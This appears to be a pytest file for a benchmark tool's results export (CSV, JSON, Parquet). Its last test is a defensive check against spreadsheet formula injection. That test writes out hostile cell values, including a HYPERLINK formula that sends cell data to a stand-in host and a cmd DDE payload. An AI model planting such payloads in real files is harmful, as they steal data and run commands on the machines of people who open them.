"""`farm results -o FILE`: CSV, JSON and Parquet exports hold every coordinate and metric, equal to the database."""
from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from sqlalchemy import text

from farm.db.session import get_engine
from farm.readers.export import EXPORT_COLUMNS
from schemas.metrics import JOB_METRICS
from tests.farm.results_data import seed_request
from tests.helpers import farm


def _db_rows(url: str, rid: str) -> dict[str, dict[str, Any]]:
    """The request's rows straight from the tables: job columns and every metric column of results."""
    cols = ", ".join(f"r.{m.name}" for m in JOB_METRICS)
    sql = (f"SELECT j.id AS job_id, j.device, j.engine, j.batch_size, j.concurrency, j.edge_profile, j.status, "
           f"j.error, r.host, r.isolated, {cols} FROM jobs j LEFT JOIN results r ON r.job_id = j.id "
           "WHERE j.request_id = :rid")
    with get_engine(url).connect() as conn:
        return {r["job_id"]: dict(r) for r in conn.execute(text(sql), {"rid": rid}).mappings()}


def _same(exported: Any, stored: Any) -> bool:
    if stored is None:
        return exported in (None, "")
    if isinstance(stored, bool) or str(exported) in ("True", "False"):  # SQLite hands booleans back as 0/1
        return (str(exported) == "True") == bool(stored)
    if isinstance(stored, float | int):
        return math.isclose(float(exported), float(stored), rel_tol=1e-12)
    return str(exported) == str(stored)


def _check(rows: list[dict[str, Any]], db: dict[str, dict[str, Any]], rid: str) -> None:
    assert {r["job_id"] for r in rows} == set(db)
    assert all(set(EXPORT_COLUMNS) <= set(r) for r in rows)
    for r in rows:
        stored = db[r["job_id"]]
        assert r["request_id"] == rid and r["model"] == "mlp.onnx"
        bad = {k: (r[k], v) for k, v in stored.items() if not _same(r[k], v)}
        assert not bad, bad
        assert ("in-process" in r["measured"]) == bool(r["edge_profile"])
        assert "gRPC" in r["measured"] or r["edge_profile"]


def test_csv_json_and_parquet_exports_equal_the_database(sqlite_url: str, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    rid = seed_request(np.random.default_rng(1))
    db = _db_rows(sqlite_url, rid)
    files = {fmt: tmp_path / f"r.{fmt}" for fmt in ("csv", "json", "parquet")}
    for fmt, path in files.items():
        farm("results", rid[:8], "--format", fmt, "-o", str(path))
    with files["csv"].open() as f:
        _check(list(csv.DictReader(f)), db, rid)
    _check(json.loads(files["json"].read_text()), db, rid)
    table = pq.read_table(files["parquet"])
    assert table.column_names == list(EXPORT_COLUMNS)
    assert table.schema.field("latency_p99_ms").metadata[b"unit"] == b"ms"
    assert str(table.schema.field("mem_peak_bytes").type) == "int64"
    rows = table.to_pylist()
    _check(rows, db, rid)
    dims = {r["job_id"]: (r["instances"], r["threads"], r["max_queue_delay_us"], r["preferred_batch_size"])
            for r in rows}
    assert {d for d in dims.values()} >= {(1, 2, None, None), (1, 2, 100, None), (1, 1, None, None)}


@pytest.mark.parametrize("args, message", [
    (["--format", "parquet"], "-o results.parquet"),
    (["--format", "xml", "-o", "x"], "--format 'xml' is unknown"),
    (["--columns", "bogus"], "--columns: 'bogus' is neither a result metric nor its label"),
])
def test_bad_export_options_are_one_line_errors(sqlite_url: str, args: list[str], message: str) -> None:
    rid = seed_request(np.random.default_rng(2), edge=False, failed=False, batches=(1,), devices=("cpu",))
    proc = farm("results", rid, *args, check=False)
    assert proc.returncode != 0 and message in proc.stderr and "Traceback" not in proc.stderr


def test_results_report_and_compare_say_how_rows_were_measured(sqlite_url: str) -> None:
    """A 1-CPU edge row with more throughput than a serving row comes with the reason: no transport."""
    rng = np.random.default_rng(9)
    rid = seed_request(rng, devices=("cpu",), batches=(1,), concurrencies=(1,), failed=False)
    rows = json.loads(farm("results", rid, "--format", "json").stdout)
    edge = next(r for r in rows if r["edge_profile"] == "pi4")
    serving = [r for r in rows if not r["edge_profile"]]
    assert edge["throughput_infer_per_s"] > max(r["throughput_infer_per_s"] for r in serving)
    assert "in-process" in edge["measured"] and all("over gRPC" in r["measured"] for r in serving)
    for args in (["results", rid], ["report", rid]):
        out = farm(*args).stdout
        assert "serving rows: end-to-end over gRPC" in out and "edge rows: in-process" in out
        assert "do not compare their throughput" in out
    report = json.loads(farm("report", rid, "--json").stdout)
    assert "in-process" in report["edge"][0]["measured"] and "gRPC" in report["ranked"][0]["measured"]
    other = seed_request(rng, devices=("cpu",), batches=(1,), concurrencies=(1,), failed=False)
    matches = json.loads(farm("compare", rid, other, "--json").stdout)["matches"]
    assert {("in-process" in m["measured"]) for m in matches} == {True, False}


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized() -> None:
    """Finding: a server name like ``=HYPERLINK(...)`` from an endpoint's metadata landed in a CSV cell as is, and
    a spreadsheet runs it. Text cells starting with = + - @ tab or CR get a leading ', numbers stay numbers; JSON
    keeps the text exactly."""
    from farm.readers.export import write

    evil = {"=HYPERLINK(\"http://x/?\"&A1,\"ok\") 1.0": "server", "+cmd|' /C calc'!A0": "model",
            "-2+3": "edge_profile", "@SUM(1+1)": "error", "\tx": "host", "\rx": "worker_id"}
    for cell, column in evil.items():
        row = {c: None for c in EXPORT_COLUMNS} | {column: cell, "latency_p50_ms": -1.5}
        got = next(csv.DictReader(io.StringIO(write([row], "csv", None), newline="")))
        assert got[column] == "'" + cell, (column, got[column])
        assert got["latency_p50_ms"] == "-1.5"
        assert json.loads(write([row], "json", None))[0][column] == cell  # type: ignore[arg-type]
